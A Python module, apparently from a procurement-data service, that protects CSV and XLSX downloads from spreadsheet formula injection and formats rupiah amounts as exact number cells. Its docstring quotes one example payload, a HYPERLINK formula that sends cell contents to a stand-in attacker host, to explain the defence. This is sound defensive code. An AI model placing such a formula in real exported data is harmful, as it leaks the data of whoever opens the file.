"""Spreadsheet-safe cells for every CSV and XLSX download (formula injection).

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is
read by Excel, LibreOffice and Google Sheets as a formula: a vendor named
``=HYPERLINK("http://evil.example/?"&A1,"klik")`` would run in the spreadsheet of
every auditor who opens ``/penyedia.csv``. So, following the OWASP rule (CSV
Injection), every text cell that starts with one of those characters is written with
a leading single quote (``'=HYPERLINK(...)``), which spreadsheets show as text.

Numbers are left as they are: an amount such as ``-1500000.00`` (a negative revision)
is a decimal string that no spreadsheet runs, and a quote would break the figures.
A cell counts as a number when it is a plain decimal (``[+-]?digits[.digits]``); a
number cannot carry a formula. Downloads are for people's spreadsheets; the JSON API
carries the exact values, unchanged.

In an XLSX download, amounts are number cells (``amounts_as_numbers``) in the format
``#,##0.00``, so a spreadsheet sums and sorts them without a conversion. The file holds
each amount's exact decimal (``1234567.89``, written from a ``Decimal``, never a float);
a spreadsheet program computes in binary doubles, exact to the sen below about Rp 10
triliun a cell (15 significant digits). The CSV keeps the exact decimal strings.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Final

import pandas as pd

FORMULA_CHARS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
RUPIAH_NUMBER_FORMAT: Final = "#,##0.00"
"""An amount's cell format in XLSX: thousands grouped, two decimals (the sen)."""


def neutralise_cell(value: Any) -> Any:
    """``value``, with a leading ``'`` if it is text a spreadsheet would read as a formula."""
    if (
        isinstance(value, str)
        and value[:1] in FORMULA_CHARS
        and _PLAIN_NUMBER.fullmatch(value) is None
    ):
        return "'" + value
    return value


def neutralise_row(row: dict[str, Any]) -> dict[str, Any]:
    return {key: neutralise_cell(value) for key, value in row.items()}


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every cell passed through ``neutralise_cell``."""
    return frame.map(neutralise_cell)


def amounts_as_numbers(worksheet: Any, headers: Iterable[str]) -> None:
    """Turn the decimal-string cells under ``headers`` (row 1 of an openpyxl
    ``worksheet``) into number cells in ``RUPIAH_NUMBER_FORMAT``; empty cells stay empty.

    Written as ``Decimal``, so the file holds the exact figure the CSV has. A cell that is
    not a plain decimal is a bug upstream (every amount is ``format_amount``'s), and
    ``Decimal`` refuses it rather than write text where a number belongs.
    """
    columns = {cell.value: cell.column for cell in worksheet[1]}
    for header in headers:
        column = columns[header]
        for (cell,) in worksheet.iter_rows(min_row=2, min_col=column, max_col=column):
            if cell.value is None or cell.value == "":
                continue
            cell.value = Decimal(str(cell.value))
            cell.number_format = RUPIAH_NUMBER_FORMAT


def cell_text(cell: Any) -> str:
    """An openpyxl cell as the CSV writes it: an amount (a number in the rupiah format)
    as its two-place decimal string, an empty cell as ``""``, text as it is."""
    value = cell.value
    if value is None:
        return ""
    if isinstance(value, int | float) and cell.number_format == RUPIAH_NUMBER_FORMAT:
        return f"{value:.2f}"
    return str(value)
